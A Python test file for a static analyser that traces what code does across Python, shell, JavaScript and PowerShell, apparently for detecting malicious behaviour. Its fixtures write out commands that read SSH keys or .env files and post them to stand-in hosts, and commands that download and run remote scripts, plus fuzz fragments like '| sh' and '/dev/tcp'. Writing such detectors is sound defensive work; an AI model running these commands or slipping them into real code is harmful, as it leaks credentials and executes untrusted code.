"""What code does, told from its text: the same acts in each language, and nothing that raises or hangs."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from guildmark.lenses.flows.behaviour import behaviour

SENT = {
    "python": "import requests\nkey = open('/home/me/.ssh/id_rsa').read()\nrequests.post('https://c.example.invalid/in', data={'k': key})\n",
    "shell": 'key=$(cat ~/.ssh/id_rsa)\ncurl -d "$key" https://c.example.invalid/in\n',
    "javascript": "const fs = require('fs');\nconst key = fs.readFileSync('/home/me/.ssh/id_rsa', 'utf8');\nfetch('https://c.example.invalid/in', { method: 'POST', body: key });\n",
    "powershell": "$key = Get-Content ~/.ssh/id_rsa\nInvoke-RestMethod -Method Post -Uri https://c.example.invalid/in -Body $key\n",
}
RUN = {
    "python": "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://d.example.invalid/s').read()\nsubprocess.run(code, shell=True)\n",
    "shell": "curl -s https://d.example.invalid/s -o /tmp/s\nbash /tmp/s\n",
    "javascript": "const { execSync } = require('child_process');\nconst code = await (await fetch('https://d.example.invalid/s')).text();\nexecSync(code);\n",
    "powershell": "iwr https://d.example.invalid/s -OutFile s.exe\nStart-Process s.exe\n",
}


@pytest.mark.parametrize("language", SENT)
def test_a_key_that_is_sent_is_followed_from_its_file_to_the_host(language):
    sent = [act for act in behaviour(SENT[language], language).acts if act.kind == "send"]
    assert [act.what for act in sent] == ["https://c.example.invalid/in"]
    assert sent[0].carries("secret").what.endswith(".ssh/id_rsa")


@pytest.mark.parametrize("language", RUN)
def test_what_is_fetched_and_run_carries_its_address(language):
    acts = behaviour(RUN[language], language).acts
    run = [act for act in acts if act.kind in {"shell", "run", "evaluate"} and act.carries("remote")]
    assert any(act.carries("remote").what == "https://d.example.invalid/s" for act in run)


@pytest.mark.parametrize(
    ("language", "source"),
    [
        (
            "python",
            "def send(a):\n    import requests\n    requests.post('https://c.example.invalid', data=a)\n\nsend(open('.env').read())\n",
        ),
        ("shell", 'send() { curl -d "$1" https://c.example.invalid; }\nsend "$(cat .env)"\n'),
        (
            "javascript",
            "function send(a) { fetch('https://c.example.invalid', { method: 'POST', body: a }); }\nsend(require('fs').readFileSync('.env'));\n",
        ),
    ],
)
def test_a_function_carries_what_it_is_given(language, source):
    sent = [act for act in behaviour(source, language).acts if act.kind == "send"]
    assert any(act.carries("secret") for act in sent)


def test_a_branch_does_not_wash_a_value_clean():
    source = "import requests\nx = open('.env').read()\nif len(x) > 3:\n    x = ''\nrequests.post('https://c.example.invalid', data=x)\n"
    assert any(act.carries("secret") for act in behaviour(source, "python").acts if act.kind == "send")


def test_a_list_of_words_is_no_shell():
    acts = behaviour(
        "import subprocess, sys\nsubprocess.run(['soffice', '--convert-to', 'pdf', sys.argv[1]])\n", "python"
    ).acts
    assert {act.kind for act in acts} == {"run"}


def test_code_within_code_stands_where_it_is_run():
    source = "import os\n\nos.system('python3 -c \"import os; os.remove(1)\"')\n"
    assert {act.span.line for act in behaviour(source, "python").acts} == {3}


def test_a_pipeline_that_the_grammar_reads_too_far_is_cut_at_its_line():
    acts = behaviour("echo a | cat -n | sh\ncurl https://d.example.invalid/x && true\n", "shell").acts
    assert ("fetch", "https://d.example.invalid/x", 2) in {(act.kind, act.what, act.span.line) for act in acts}


def test_a_language_that_is_not_followed_is_none():
    assert behaviour("PRINT 1", "basic") is None


@pytest.mark.parametrize("language", ["python", "shell", "javascript", "powershell"])
def test_a_bomb_ends_and_says_so(language):
    bombs = {
        "python": "a = 'x'\n" + "a = a + a\n" * 60 + "x = " + "(" * 3000 + "1" + ")" * 3000,
        "shell": "a=x\n" + 'a="$a$a"\n' * 60 + "$(" * 500 + "x" + ")" * 500,
        "javascript": "let a = 'x';\n" + "a = a + a;\n" * 60 + "[" * 3000 + "]" * 3000,
        "powershell": "$a = 'x'\n" + "$a = $a + $a\n" * 60 + "(" * 500 + "1" + ")" * 500,
    }
    assert behaviour(bombs[language], language) is not None


@pytest.mark.parametrize("language", ["python", "shell", "javascript", "powershell"])
@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=60)
@given(source=st.text(max_size=300))
@example(source="\x00")
@example(source="`$(((")
@example(source="x = [i for i in x for x in i if x]\nx[x:x:x]()")
def test_nothing_raises(language, source):
    assert behaviour(source, language) is not None


PIECES = st.sampled_from(
    ["curl ", "-d ", "@", "$(", ")", "`", "'", '"', "| sh", "\n", "x=", "${x", "}", "eval ", "open(", "exec(", "[", "]", "lambda: ", "=> ", "{", "iex ", "-f ", "%", "+ ", "\\x41", "\ud800", "{0}", "..", "::", "/dev/tcp/a/1 ", "<<E\n", "E\n"]
)  # fmt: skip


@pytest.mark.parametrize("language", ["python", "shell", "javascript", "powershell"])
@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=150)
@given(parts=st.lists(PIECES, max_size=25))
def test_crumbs_of_attacks_do_not_raise(language, parts):
    assert behaviour("".join(parts), language) is not None
